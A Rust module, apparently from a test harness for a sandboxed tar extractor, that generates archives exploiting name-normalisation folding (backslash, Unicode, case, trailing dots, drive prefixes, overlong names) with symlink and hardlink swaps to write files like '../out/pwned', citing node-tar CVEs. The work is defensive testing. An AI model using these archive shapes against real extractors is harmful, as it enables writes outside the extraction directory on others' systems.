//! Name-normalisation attacks: two spellings of one name that some normaliser folds
//! together (a filesystem that folds case or Unicode forms, an extractor that splits on
//! `\`, strips a drive prefix or trailing dots), each put into a swap shape: the directory
//! (or the first, harmless link) under one spelling, the link out and the write through it
//! under the other. The extractor thinks two names differ while the filesystem sees one,
//! or the reverse: node-tar's directory cache (CVE-2021-32803, CVE-2021-37701,
//! CVE-2021-37712) and its drive-relative names (CVE-2021-37713).
//!
//! On this filesystem the link and the write through it always share their bytes, so a
//! naive extractor escapes whatever it folds; the member under the other spelling is the
//! one only a folding extractor or filesystem sends through the link.

use super::member::{choose, one_in, Seq};
use super::target::{aim, decoy_in_dir, dir_depth, join, ups};
use crate::jail::view_layout::VIEW_SIBLINGS;
use snapconf_tarbytes::Rng;

/// Pairs of spellings `(a, b)`: `b` names the link and the write through it, `a` the
/// directory (or the first link) that a folding extractor or filesystem takes for `b`.
type Pairs = &'static [(&'static str, &'static str)];

/// `\` as a separator (node-tar 6.1.0 normalised `\` in its path reservations: `a\b/`,
/// `a\b -> ../out`, `a\b/pwned` writes through the link).
pub(super) const BACKSLASH: Pairs = &[
    ("a\\b", "a\\b"),
    ("a\\b", "a\\b"),
    ("a/b", "a\\b"),
    ("a\\b", "a/b"),
    (".\\d", "d"),
    ("d\\", "d"),
    ("w\\d", "w/d"),
];

/// Unicode forms and lookalikes: NFC `é` and NFD `e` + U+0301 (macOS and node-tar's cache
/// fold them), the ligature `ﬁ` and the Kelvin sign `K` (NFKC and case folding make them
/// `fi` and `k`), Cyrillic `с` and fullwidth `ｄ` (confusable; NFKC folds the fullwidth).
pub(super) const UNICODE: Pairs = &[
    ("caf\u{e9}", "cafe\u{301}"),
    ("cafe\u{301}", "caf\u{e9}"),
    ("\u{fb01}le", "file"),
    ("\u{212a}ey", "key"),
    ("\u{441}fg", "cfg"),
    ("\u{ff44}", "d"),
];

/// Case: a case-insensitive filesystem (macOS, Windows) sees one name.
pub(super) const CASE: Pairs = &[
    ("D", "d"),
    ("d", "D"),
    ("CFG", "cfg"),
    ("Sub", "sub"),
    ("w/D", "w/d"),
];

/// Trailing dots and spaces, which Windows (and extractors mimicking it) strip.
pub(super) const TRAILING: Pairs = &[
    ("d.", "d"),
    ("d ", "d"),
    ("d. .", "d"),
    ("cfg...", "cfg"),
    ("d", "d."),
];

/// A drive prefix (`c:d` is `d` to node-tar, which strips drive roots, CVE-2021-37713).
pub(super) const DRIVE: Pairs = &[("c:d", "d"), ("C:d", "d"), ("c:sub", "sub"), ("d", "c:d")];

/// A 256-byte component (past `NAME_MAX`: an extractor that truncates it to 255 bytes
/// makes it the 255-byte one) and empty components (`w//d`).
pub(super) fn overlong() -> Vec<(String, String)> {
    vec![
        ("n".repeat(256), "n".repeat(255)),
        ("w//d".into(), "w/d".into()),
        ("d//".into(), "d".into()),
    ]
}

/// Where the link points and what is written through it: a view directory holding a
/// decoy and the rest of it, or a decoy directory beside the root (`../out`) and a new
/// name in it. Spelled from `depth`.
fn aimed(rng: &mut Rng, depth: usize) -> (Vec<u8>, String) {
    if one_in(rng, 2) {
        let (dir, tail) = decoy_in_dir(rng);
        (aim(rng, depth, dir), tail)
    } else {
        let sib = choose(rng, &VIEW_SIBLINGS[..4]);
        let name = sib.rsplit('/').next().unwrap_or(sib);
        (join(ups(depth + 1), name), "pwned".into())
    }
}

/// One draw of a folding class over `pairs`: dir-to-symlink, link-repoint or a hardlink
/// through the link, with the spellings of a pair (or the link's under both, the node-tar
/// backslash archive). `drive` adds, one time in two, a drive-relative `c:..` climb (a
/// name `c:../out/pwned`; a `c:..` is `..` once the drive is stripped).
pub(super) fn folded(rng: &mut Rng, seq: &mut Seq, pairs: &[(String, String)], drive: bool) {
    let (a, b) = pairs[rng.below(pairs.len())].clone();
    let a = if one_in(rng, 4) { b.clone() } else { a };
    let depth = dir_depth(&b);
    let (target, tail) = aimed(rng, depth);
    match rng.below(3) {
        0 => {
            // dir-to-symlink: `a/`, `b -> out`, (`a/tail`), `b/tail`.
            seq.dir(format!("{a}/"));
            seq.symlink(&b, &target);
            if a != b && one_in(rng, 2) {
                seq.file(join(&a, &tail));
            }
            seq.file(join(&b, &tail));
        }
        1 => {
            // link-repoint: `a -> in`, `a/ok`, `b -> out`, `b/tail`.
            seq.dir("in/");
            seq.symlink(&a, join(ups(dir_depth(&a)), "in"));
            seq.file(join(&a, "ok"));
            seq.symlink(&b, &target);
            seq.file(join(&b, &tail));
        }
        _ => {
            // A hardlink through the link (under the other spelling first), then written.
            seq.symlink(&b, &target);
            if a != b && one_in(rng, 2) {
                seq.hardlink("h2", join(&a, &tail));
            }
            seq.hardlink("h", join(&b, &tail));
            seq.file("h");
        }
    }
    if drive && one_in(rng, 2) {
        let sib = choose(rng, &["out", "x"]);
        seq.file(format!("c:../{sib}/pwned"));
    }
}

/// [`folded`] over static pairs.
pub(super) fn folded_static(rng: &mut Rng, seq: &mut Seq, pairs: Pairs, drive: bool) {
    let owned: Vec<(String, String)> = pairs
        .iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect();
    folded(rng, seq, &owned, drive);
}

/// `backslash-name`.
pub(super) fn backslash_name(rng: &mut Rng, seq: &mut Seq) {
    folded_static(rng, seq, BACKSLASH, false);
}

/// `unicode-name`.
pub(super) fn unicode_name(rng: &mut Rng, seq: &mut Seq) {
    folded_static(rng, seq, UNICODE, false);
}

/// `case-collision`.
pub(super) fn case_collision(rng: &mut Rng, seq: &mut Seq) {
    folded_static(rng, seq, CASE, false);
}

/// `trailing-dot-space`.
pub(super) fn trailing_dot_space(rng: &mut Rng, seq: &mut Seq) {
    folded_static(rng, seq, TRAILING, false);
}

/// `drive-relative`.
pub(super) fn drive_relative(rng: &mut Rng, seq: &mut Seq) {
    folded_static(rng, seq, DRIVE, true);
}

/// `overlong-component`.
pub(super) fn overlong_component(rng: &mut Rng, seq: &mut Seq) {
    folded(rng, seq, &overlong(), false);
}
